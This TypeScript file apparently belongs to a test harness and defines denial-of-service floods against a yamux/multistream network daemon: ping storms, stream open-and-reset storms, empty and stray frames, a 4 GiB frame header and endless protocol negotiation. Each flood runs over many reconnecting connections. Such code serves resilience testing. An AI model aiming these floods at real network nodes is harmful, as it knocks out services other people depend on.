import { FLAG, frame, RawLine, repeated, TYPE } from '../../../test/helpers/raw-line.js'
import { prefixed } from '../../../test/helpers/gossip-frames.js'
import { turn, type Attack } from '../attack.js'

/** Milliseconds between two attempts to come back. */
const PAUSE_MS = 50
/** And between two packets: more than anybody may send, and no race for the processor with the daemon. */
const PACE_MS = 5
const said = (text: string): Buffer => prefixed(Buffer.from(text))

/**
 * Packets without end on connections of yamux written by hand; whoever is dropped comes back with another id. `packet`:
 * the i-th of a connection.
 */
const flood =
  (packet: (i: number) => Uint8Array, isDeaf = false): Attack =>
  async ({ addr, crowd }, over) => {
    let [ids, dropped, bytes] = [0, 0, 0]
    await Promise.all(
      Array.from({ length: crowd }, async () => {
        while (!over()) {
          const line = await RawLine.dial(addr).catch(() => null) // no place: as it should be
          if (line === null) {
            await turn(PAUSE_MS)
            continue
          }
          ids++
          if (isDeaf) line.deaf()
          await turn(PAUSE_MS) // before the connection is complete, yamux itself gives up at ten streams
          for (let i = 0; !over(); i++) {
            const one = packet(i)
            if (!(await line.send(one))) break
            bytes += one.byteLength
            await turn(PACE_MS)
          }
          if (!line.open) dropped++
          await line.stop()
          await turn(PAUSE_MS)
        }
      })
    )
    return `${Math.round(bytes / 1024)} KiB by ${ids} ids, ${dropped} dropped`
  }

const PINGS = repeated(5_000, (i) => frame(TYPE.ping, FLAG.syn, 0, i))
const EMPTY = Buffer.concat([
  frame(TYPE.window, FLAG.syn, 1, 0),
  repeated(5_000, () => frame(TYPE.data, FLAG.none, 1, 0))
])
const STRAY = frame(TYPE.data, FLAG.none, 9_999_999, 64 * 1024, new Uint8Array(64 * 1024))
const NAMES = Buffer.concat([said('/multistream/1.0.0\n'), repeated(20_000, () => said('\n'))])
/** Streams that a packet opens. */
const STREAMS = 200
const ofStreams = (i: number, make: (id: number) => Uint8Array): Buffer =>
  repeated(STREAMS, (at) => make((i * STREAMS + at) * 2 + 1))

export const floods: Record<string, Attack> = {
  'yamux: pings': flood(() => PINGS),
  'yamux: pings, deaf': flood(() => PINGS, true),
  'yamux: opens and resets': flood((i) =>
    ofStreams(i, (id) => Buffer.concat([frame(TYPE.window, FLAG.syn, id, 0), frame(TYPE.window, FLAG.rst, id, 0)]))
  ),
  'yamux: opens': flood((i) => ofStreams(i, (id) => frame(TYPE.window, FLAG.syn, id, 0))),
  'yamux: empty frames': flood(() => EMPTY),
  'yamux: stray bytes': flood(() => STRAY),
  'yamux: frames of 4 GiB': flood((i) => (i === 0 ? frame(TYPE.data, FLAG.none, 1, 2 ** 32 - 1) : STRAY)),
  'negotiations without end': flood((i) =>
    Buffer.concat([
      frame(TYPE.window, FLAG.syn, 2 * i + 1, 0),
      frame(TYPE.data, FLAG.none, 2 * i + 1, NAMES.length, NAMES)
    ])
  )
}
